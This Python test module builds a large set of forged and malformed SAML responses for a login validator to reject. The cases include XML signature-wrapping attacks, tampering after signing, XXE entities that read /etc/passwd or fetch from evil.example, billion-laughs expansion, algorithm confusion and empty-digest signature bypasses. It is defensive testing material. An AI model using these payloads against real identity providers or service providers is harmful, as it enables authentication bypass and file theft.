"""SAML answers that are nearly right, by name: each would let somebody in who ought not to come (reliability: V15)."""

from __future__ import annotations

import base64
from collections.abc import Iterator
from dataclasses import replace

from cryptography.hazmat.primitives.serialization import Encoding

from tests.unit.access.assertions import (
    CERTIFICATE,
    CURVES,
    DS,
    ENC,
    ENVELOPED,
    EXCLUSIVE,
    KEY,
    MORE,
    PARTY,
    PERSISTENT,
    REQUEST,
    STRANGER,
    STRANGERS,
    A,
    P,
    Signer,
    answer,
    assertion,
    at,
    canonical,
    der,
    encoded,
    instead,
    key_info,
    public,
    response,
    whole,
)

Case = tuple[str, str]
_SUBJECT = "ada-0815"
_CONFIRMED = f'InResponseTo="{REQUEST}" NotOnOrAfter="{at(300)}" Recipient="{PARTY.receiver}"'
_CONDITIONS = f'<saml:Conditions NotBefore="{at(-300)}" NotOnOrAfter="{at(300)}">'
_AUDIENCE = f"<saml:Audience>{PARTY.entity}</saml:Audience>"
_STATEMENT = f'<saml:AuthnStatement AuthnInstant="{at(-10)}" SessionIndex="_s">'
_MADE = f'IssueInstant="{at(-2)}"'
_BEARER = "urn:oasis:names:tc:SAML:2.0:cm:bearer"


def signed_and_wrong() -> Iterator[Case]:
    """The provider itself says it, and it is not for us, not now, or of nobody."""
    changes: dict[str, tuple[str, str]] = {
        "another issuer": (PARTY.issuer, "https://evil.example/saml"),
        "issuer with a slash": (f"{PARTY.issuer}</saml:Issuer>", f"{PARTY.issuer}/</saml:Issuer>"),
        "issuer with a space": (f"{PARTY.issuer}</saml:Issuer>", f"{PARTY.issuer} </saml:Issuer>"),
        "issuer in capitals": (PARTY.issuer, PARTY.issuer.upper()),
        "issuer of another format": ("<saml:Issuer>", '<saml:Issuer Format="urn:x">'),
        "two issuers": ("{signature}", f"{{signature}}<saml:Issuer>{PARTY.issuer}</saml:Issuer>"),
        "version 1.1": ('Version="2.0"', 'Version="1.1"'),
        "no version": ('Version="2.0" ', ""),
        "old": (_MADE, f'IssueInstant="{at(-361)}"'),
        "of the future": (_MADE, f'IssueInstant="{at(61)}"'),
        "no time": (_MADE, 'IssueInstant="now"'),
        "no time at all": (f" {_MADE}", ""),
        "a time of another zone": (_MADE, f'IssueInstant="{at(-2).replace("Z", "+00:00")}"'),
        "a day that is none": (_MADE, 'IssueInstant="2027-02-31T10:00:00Z"'),
        "no subject": (_SUBJECT, ""),
        "a subject of spaces": (_SUBJECT, "   "),
        "a subject with a space": (_SUBJECT, f"{_SUBJECT} "),
        "a subject with a line": (_SUBJECT, f"{_SUBJECT}&#10;"),
        "a long subject": (_SUBJECT, "x" * 256),
        "a subject with an element": (_SUBJECT, "ada<saml:x/>-0815"),
        "a subject that is passing": (PERSISTENT, "urn:oasis:names:tc:SAML:2.0:nameid-format:transient"),
        "two subjects": (
            "<saml:Conditions",
            "<saml:Subject><saml:NameID>x</saml:NameID></saml:Subject><saml:Conditions",
        ),
        "two names": ("<saml:SubjectConfirmation ", "<saml:NameID>root</saml:NameID><saml:SubjectConfirmation "),
        "of another name space": ("saml:NameID", "NameID"),
        "holder of key": (_BEARER, "urn:oasis:names:tc:SAML:2.0:cm:holder-of-key"),
        "sender vouches": (_BEARER, "urn:oasis:names:tc:SAML:2.0:cm:sender-vouches"),
        "another question": (f'"{REQUEST}" NotOn', '"_other" NotOn'),
        "no question": (f'InResponseTo="{REQUEST}" ', ""),
        "an empty question": (f'InResponseTo="{REQUEST}"', 'InResponseTo=""'),
        "another place": (PARTY.receiver, "https://evil.example/acs"),
        "a longer place": (PARTY.receiver, f"{PARTY.receiver}/"),
        "no place": (f' Recipient="{PARTY.receiver}"', ""),
        "ended": (_CONFIRMED, _CONFIRMED.replace(at(300), at(-61))),
        "not begun": (_CONFIRMED, f'NotBefore="{at(61)}" {_CONFIRMED}'),
        "without end": (f' NotOnOrAfter="{at(300)}" Rec', " Rec"),
        "an end that is none": (f' NotOnOrAfter="{at(300)}" Rec', ' NotOnOrAfter="never" Rec'),
        "conditions that ended": (_CONDITIONS, _CONDITIONS.replace(at(300), at(-61))),
        "conditions that have not begun": (_CONDITIONS, _CONDITIONS.replace(at(-300), at(61))),
        "conditions of no time": (_CONDITIONS, _CONDITIONS.replace(at(-300), "soon")),
        "for somebody else": (PARTY.entity, "https://other.example/saml"),
        "for nobody": (_AUDIENCE, ""),
        "for a longer name": (_AUDIENCE, f"<saml:Audience>{PARTY.entity}x</saml:Audience>"),
        "for all of two": (
            "</saml:AudienceRestriction>",
            "</saml:AudienceRestriction><saml:AudienceRestriction><saml:Audience>x</saml:Audience></saml:AudienceRestriction>",
        ),
        "under an unknown condition": ("</saml:Conditions>", "<saml:Condition/></saml:Conditions>"),
        "conditions twice": ("<saml:AuthnStatement", f"{_CONDITIONS}</saml:Conditions><saml:AuthnStatement"),
        "nobody signed in": (_STATEMENT, _STATEMENT.replace("AuthnInstant", "Instant")),
        "will sign in": (_STATEMENT, _STATEMENT.replace(at(-10), at(61))),
        "a session that ended": (_STATEMENT, _STATEMENT[:-1] + f' SessionNotOnOrAfter="{at(-61)}">'),
    }
    for name, change in changes.items():
        yield name, answer(before=instead(*change))
    for part in ("Subject", "Conditions", "AuthnStatement", "SubjectConfirmation", "Issuer"):
        start, end = f"<saml:{part}", f"</saml:{part}>"
        text = assertion()
        cut = text[: text.index(start)] + text[text.index(end) + len(end) :]
        yield f"without {part}", encoded(response(whole(cut)))
    advice = f"<saml:Advice>{assertion().replace('{signature}', '').replace('_a1', '_a2')}</saml:Advice>"
    yield "advice with another", answer(before=instead("<saml:AuthnStatement", f"{advice}<saml:AuthnStatement"))


def wrapped() -> Iterator[Case]:
    """XSW 1 to 8 (Somorovsky and others, 2012), and some of their children: a signed one, and another that is read."""
    good = whole(assertion())
    bare = assertion().replace("{signature}", "")
    evil, empty = bare.replace(_SUBJECT, "root").replace("_a1", "_evil"), bare.replace(_SUBJECT, "root")
    cut = good[: good.index("<ds:Signature")] + good[good.index("</ds:Signature>") + 15 :]
    signature = good[good.index("<ds:Signature") : good.index("</ds:Signature>") + 15]
    evil_signed = evil.replace("</saml:Issuer>", f"</saml:Issuer>{signature}", 1)
    about = response(bare)
    around = Signer()(about, id="_r1")
    object_of = signature.replace("</ds:Signature>", "<ds:Object>{}</ds:Object></ds:Signature>")
    yield "XSW 1", encoded(response(evil, id="_evil_r", signature=around.replace(
        "</ds:Signature>", f"<ds:Object>{about}</ds:Object></ds:Signature>")))  # fmt: skip
    yield "XSW 2", encoded(response(evil + about, id="_evil_r", signature=around))
    yield "XSW 3", encoded(response(evil + good))
    yield "XSW 3, behind", encoded(response(good + evil))
    yield "XSW 4", encoded(response(evil.replace("</saml:Assertion>", f"{good}</saml:Assertion>")))
    yield "XSW 5", encoded(response(evil_signed + cut))
    yield "XSW 6", encoded(response(evil.replace("</saml:Issuer>", f"</saml:Issuer>{object_of.format(cut)}", 1)))
    yield "XSW 7", encoded(response(f"<samlp:Extensions>{good}</samlp:Extensions>{evil}"))
    yield "XSW 7, signed evil", encoded(response(f"<samlp:Extensions>{cut}</samlp:Extensions>{evil_signed}"))
    yield "XSW 8", encoded(response(evil.replace("</saml:Issuer>", f"</saml:Issuer>{object_of.format(good)}", 1)))
    yield "the same ID", encoded(response(empty + good))
    yield "the same ID in the response", encoded(response(good, id="_a1"))
    yield "ID with another prefix", encoded(response(good).replace('ID="_r1"', 'ID="_r1" samlp:ID="_a1"'))
    yield "xml:id", encoded(response(evil_signed + cut).replace('ID="_evil"', 'ID="_evil" xml:id="_a1"'))
    yield "id in small letters", encoded(response(evil_signed.replace('ID="_evil"', 'ID="_evil" id="_a1"') + cut))
    yield (
        "the same in another name space",
        encoded(
            response(good + evil.replace(f'xmlns:saml="{A}"', 'xmlns:saml="urn:oasis:names:tc:SAML:1.0:assertion"'))
        ),
    )
    yield "only the whole is signed", encoded(response(bare, signature=around))
    yield "wrapped in another response", encoded(response(response(good, id="_r2")))
    yield "twice", encoded(response(good + good))
    yield "signature moved out", encoded(response(cut, signature=signature))
    yield "signature twice", encoded(response(good.replace(signature, signature * 2)))
    yield "signature at the end", encoded(response(cut.replace("</saml:Assertion>", f"{signature}</saml:Assertion>")))
    yield "signature within the subject", encoded(response(cut.replace("<saml:Subject>", f"<saml:Subject>{signature}")))


def tampered() -> Iterator[Case]:
    """Changed after it was signed."""
    changes = {
        "another subject": (_SUBJECT, "root"),
        "a subject cut by a comment": (_SUBJECT, f"{_SUBJECT}<!-- -->.evil"),
        "a comment in it": (_SUBJECT, f"<!-- -->{_SUBJECT}"),
        "a section": (_SUBJECT, f"<![CDATA[{_SUBJECT}]]>"),
        "an instruction": (_SUBJECT, f"{_SUBJECT}<?x?>"),
        "another address": ("Ada@Example.com", "root@example.com"),
        "a further attribute": ("<saml:AttributeStatement>", '<saml:AttributeStatement><saml:Attribute Name="mail"/>'),
        "a further audience": ("<saml:Audience>", "<saml:Audience>x</saml:Audience><saml:Audience>"),
        "a longer life": (f'NotOnOrAfter="{at(300)}" Rec', f'NotOnOrAfter="{at(9000)}" Rec'),
        "another prefix": ("saml:", "s:"),
        "a name space more": ("<saml:Subject>", '<saml:Subject xmlns:x="relative"><x:y/>'),
        "a space": ("<saml:Subject>", "<saml:Subject> "),
        "an attribute more": ("<saml:NameID ", '<saml:NameID NameQualifier="x" '),
    }
    for name, change in changes.items():
        yield name, answer(after=instead(*change))
    subject = f"{DS}digest"
    yield "nothing signed", encoded(response(assertion().replace("{signature}", "")))
    yield (
        "an empty signature",
        encoded(response(assertion().replace("{signature}", f'<ds:Signature xmlns:ds="{DS}"/>'))),
    )
    yield "a digest of another kind", answer(after=instead(f"{ENC}sha256", subject))


def around() -> Iterator[Case]:
    """The envelope, which nobody signs."""
    success = "urn:oasis:names:tc:SAML:2.0:status:Success"
    code = f'<samlp:StatusCode Value="{success}"/>'
    changes = {
        "sent elsewhere": (f'Destination="{PARTY.receiver}"', 'Destination="https://evil.example"'),
        "sent nowhere": (f'Destination="{PARTY.receiver}" ', ""),
        "to another question": (f'InResponseTo="{REQUEST}"><', 'InResponseTo="_x"><'),
        "to no question": (f' InResponseTo="{REQUEST}"><', "><"),
        "refused": (success, "urn:oasis:names:tc:SAML:2.0:status:Requester"),
        "refused below success": (f'Value="{success}"/>', f'Value="urn:x">{code}</samlp:StatusCode>'),
        "two states": ("</samlp:Status>", f"{code}</samlp:Status>"),
        "no state": ("samlp:Status>", "samlp:State>"),
        "an old response": (f'xmlns:samlp="{P}" ID="_r1" Version="2.0"', f'xmlns:samlp="{P}" ID="_r1" Version="1.1"'),
        "another protocol": (f'xmlns:samlp="{P}"', 'xmlns:samlp="urn:oasis:names:tc:SAML:1.0:protocol"'),
        "no response": ("samlp:Response", "samlp:ArtifactResponse"),
        "parts of another kind": ("</samlp:Status>", "</samlp:Status><samlp:More/>"),
        "states twice": ("</samlp:Status>", f"</samlp:Status><samlp:Status>{code}</samlp:Status>"),
    }  # fmt: skip
    for name, change in changes.items():
        yield name, answer(after=instead(*change))
    issuer = f'<saml:Issuer xmlns:saml="{A}">{PARTY.issuer}'
    yield (
        "around it another issuer",
        answer(after=instead(issuer, issuer.replace(PARTY.issuer, "https://evil.example"))),
    )
    yield "encrypted", encoded(response(f'<saml:EncryptedAssertion xmlns:saml="{A}"><x/></saml:EncryptedAssertion>'))
    yield (
        "encrypted beside",
        answer(after=instead("</samlp:Response>", f'<saml:EncryptedAssertion xmlns:saml="{A}"/></samlp:Response>')),
    )
    yield "an assertion alone", encoded(whole(assertion()))


def unread() -> Iterator[Case]:
    """What is no XML of ours."""
    good = response(whole(assertion()))
    laughs = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 9))
    doctypes = {
        "a DTD": "<!DOCTYPE r>",
        "a DTD elsewhere": '<!DOCTYPE r SYSTEM "http://evil.example/x.dtd">',
        "an entity": '<!DOCTYPE r [<!ENTITY x "root">]>',
        "a file": '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
        "a parameter": '<!DOCTYPE r [<!ENTITY % x SYSTEM "http://evil.example/x"> %x;]>',
        "many laughs": f'<!DOCTYPE r [<!ENTITY a0 "ha">{laughs}]>',
        "an attribute of a DTD": '<!DOCTYPE r [<!ATTLIST saml:Assertion ID CDATA "_a1">]>',
    }
    for name, doctype in doctypes.items():
        yield name, encoded(doctype + good)
        yield f"{name}, used", encoded(doctype + good.replace(_SUBJECT, "&x;"))
    yield "an entity nobody told", encoded(good.replace(_SUBJECT, "&nbsp;"))
    yield "a stylesheet", encoded('<?xml-stylesheet href="x"?>' + good)
    yield "UTF-16", encoded(good.encode("utf-16"))
    yield "UTF-16 with a DTD", encoded(("<!DOCTYPE r>" + good).encode("utf-16-le"))
    yield (
        "UTF-7",
        encoded('<?xml version="1.0" encoding="UTF-7"?>' + good.replace("<saml:Subject>", "+ADw-saml:Subject+AD4-")),
    )
    yield "Latin-1", encoded(good.replace("Ada L.", "Ad\xe9").encode("latin-1"))
    yield "a zero", encoded(good.replace(_SUBJECT, "ada\0"))
    yield "cut short", encoded(good[:-5])
    yield "two roots", encoded(good + good)
    yield "an attribute twice", encoded(good.replace('ID="_a1"', 'ID="_a1" ID="_a2"'))
    yield "a prefix nobody told", encoded(good.replace(f'xmlns:saml="{A}" ID', "ID"))
    many = " ".join(f'a{n}=""' for n in range(101))
    yield "many attributes", encoded(good.replace("<samlp:Status>", f"<samlp:Status {many}>"))
    yield "JSON", encoded("{}")
    yield "nothing", ""
    yield "no base64", "<xml>"
    yield "base64 of URLs", base64.urlsafe_b64encode(b"\xff\xfe" + good.encode()).decode()
    yield "too long", encoded(good + " " * 200_000)
    yield "very long", "A" * 300_000
    yield "deep", encoded(response("<x>" * 5000 + "</x>" * 5000))


def wrong_signatures() -> Iterator[Case]:
    """Right words under a signature that is none, or of somebody else."""
    right = Signer()
    pem, octets = CERTIFICATE.public_bytes(Encoding.PEM), CERTIFICATE.public_bytes(Encoding.DER)
    keys = {"PEM": pem, "DER": octets, "the key": public(KEY, Encoding.PEM), "the key's DER": public(KEY, Encoding.DER),
            "its base64": der(CERTIFICATE).encode(), "nothing": b""}  # fmt: skip
    for name, key in keys.items():
        yield f"HMAC with {name}", answer(signer=replace(right, key=key, method=f"{MORE}hmac-sha256"))
    yield "HMAC of SHA-1", answer(signer=replace(right, key=pem, method=f"{DS}hmac-sha1", hash="sha1"))
    yield "a stranger", answer(signer=replace(right, key=STRANGER))
    yield (
        "a stranger with his certificate",
        answer(signer=replace(right, key=STRANGER, information=key_info(STRANGERS))),
    )
    yield "a stranger with ours", answer(signer=replace(right, key=STRANGER, information=key_info(CERTIFICATE)))
    yield (
        "a stranger with both",
        answer(signer=replace(right, key=STRANGER, information=key_info(CERTIFICATE) + key_info(STRANGERS))),
    )
    for name in ("rsa-sha1", "dsa-sha1", "none", ""):
        yield f"said to be {name}", answer(signer=replace(right, method=f"{DS}{name}", hash="sha1"))
    for name in ("rsa-sha224", "rsa-sha384", "rsa-md5", "ecdsa-sha256", "rsa-ripemd160", "RSA-SHA256", "hmac-sha256"):
        yield f"said to be {name}", answer(signer=replace(right, method=f"{MORE}{name}"))
    yield (
        "padded otherwise",
        answer(signer=replace(right, method="http://www.w3.org/2007/05/xmldsig-more#sha256-rsa-MGF1")),
    )
    yield "of a curve", answer(signer=replace(right, key=CURVES[256], method=f"{MORE}ecdsa-sha256"))
    yield "a digest of SHA-1", answer(signer=replace(right, digest=f"{DS}sha1", digests="sha1"))
    yield "a digest of MD5", answer(signer=replace(right, digest=f"{MORE}md5", digests="md5"))
    yield (
        "a digest of the third kind",
        answer(signer=replace(right, digest="http://www.w3.org/2007/05/xmldsig-more#sha3-256", digests="sha3_256")),
    )
    for name, method in (
        ("inclusive", "http://www.w3.org/TR/2001/REC-xml-c14n-20010315"),
        ("inclusive 1.1", "http://www.w3.org/2006/12/xml-c14n11"),
        ("with comments", f"{EXCLUSIVE}WithComments"),
        ("unknown", "urn:x"),
        ("void", ""),
    ):
        yield f"canonical: {name}", answer(signer=replace(right, canonical=method))
        transforms = (right.transforms[0], f'<ds:Transform Algorithm="{method}"/>')
        yield f"transformed: {name}", answer(signer=replace(right, transforms=transforms))
    yield from _transforms(right)
    yield from _references(right)
    yield from _void(right)
    for name, value in (("empty", ""), ("zero", "AAAA"), ("no base64", "!!!!"), ("long", "A" * 8000)):
        yield f"value: {name}", answer(signer=replace(right, value=value))


def _transforms(right: Signer) -> Iterator[Case]:
    taken, exclusive = right.transforms
    path = '<ds:Transform Algorithm="http://www.w3.org/TR/1999/REC-xpath-19991116"><ds:XPath>not(self::x)</ds:XPath></ds:Transform>'
    sheet = '<ds:Transform Algorithm="http://www.w3.org/TR/1999/REC-xslt-19991116"/>'
    for name, transforms in (
        ("none", ()),
        ("one", (taken,)),
        ("the other", (exclusive,)),
        ("turned round", (exclusive, taken)),
        ("three", (taken, exclusive, exclusive)),
        ("a path", (taken, path)),
        ("a path more", (taken, path, exclusive)),
        ("a sheet", (sheet, exclusive)),
        ("base64", (f'<ds:Transform Algorithm="{DS}base64"/>', exclusive)),
        ("enveloped twice", (taken, taken)),
        ("with a child", (taken.replace("/>", "><ds:x/></ds:Transform>"), exclusive)),
        ("of prefixes", (taken, exclusive.replace("/>", "><x/></ds:Transform>"))),
    ):
        yield f"transforms: {name}", answer(signer=replace(right, transforms=transforms))


def _references(right: Signer) -> Iterator[Case]:
    for uri in ("", "#", "#_r1", "#_nobody", "#xpointer(/)", "#xpointer(id('_a1'))", "file:///etc/passwd",
                "http://evil.example/x", "_a1", "##_a1"):  # fmt: skip
        yield f"of {uri}", answer(signer=replace(right, uri=uri))
    yield "of nothing", answer(signer=replace(right, info=instead(' URI="#_a1"', "")))
    end = "</ds:Reference>"

    def twice(info: str) -> str:
        reference = info[info.index("<ds:Reference") : info.index(end) + len(end)]
        return info.replace(reference, reference * 2)

    yield "of two", answer(signer=replace(right, info=twice))
    yield (
        "no reference",
        answer(signer=replace(right, info=lambda info: info[: info.index("<ds:Ref")] + "</ds:SignedInfo>")),
    )
    yield "a manifest", answer(signer=replace(right, information="<ds:Object><ds:Manifest/></ds:Object>"))
    yield "an object", answer(signer=replace(right, information="<ds:Object>x</ds:Object>"))
    yield "a comment in the digest", answer(after=instead("<ds:DigestValue>", "<ds:DigestValue><!--x-->"))
    yield (
        "two digests",
        answer(after=instead("</ds:DigestValue>", "</ds:DigestValue><ds:DigestValue>eA==</ds:DigestValue>")),
    )
    yield "two infos", answer(after=instead("<ds:SignatureValue>", "<ds:SignedInfo/><ds:SignatureValue>"))
    yield "a shorter HMAC", answer(
        signer=replace(right, key=b"", method=f"{MORE}hmac-sha256", info=instead(
            'hmac-sha256"/>', 'hmac-sha256"><ds:HMACOutputLength>8</ds:HMACOutputLength></ds:SignatureMethod>'))
    )  # fmt: skip


def _void(right: Signer) -> Iterator[Case]:
    """Canonicalisation that fails to nothing (Fragile Lock, 2025): the digest of no octets is right for everything."""
    relative = instead("<saml:Subject>", '<saml:Subject><x:y xmlns:x="relative"/>')
    text = relative(assertion())
    signature = replace(right, covers=b"")(text.replace("{signature}", ""))
    yield "void of a relative name space", encoded(response(text.replace("{signature}", signature)))
    yield "void", answer(signer=replace(right, covers=b""))
    yield "void of an info", answer(after=instead("<ds:SignedInfo ", '<ds:SignedInfo xmlns:x="relative" '))
    yield (
        "the assertion without its name spaces",
        answer(
            signer=replace(
                right,
                covers=canonical(assertion().replace("{signature}", "").replace("saml:", "").replace(":saml", "")),
            )
        ),
    )
    yield "of the enveloped signature itself", answer(signer=replace(right, covers=ENVELOPED.encode()))


def every() -> Iterator[Case]:
    for part in (signed_and_wrong, wrapped, tampered, around, unread, wrong_signatures):
        for name, text in part():
            yield f"{part.__name__}: {name}", text
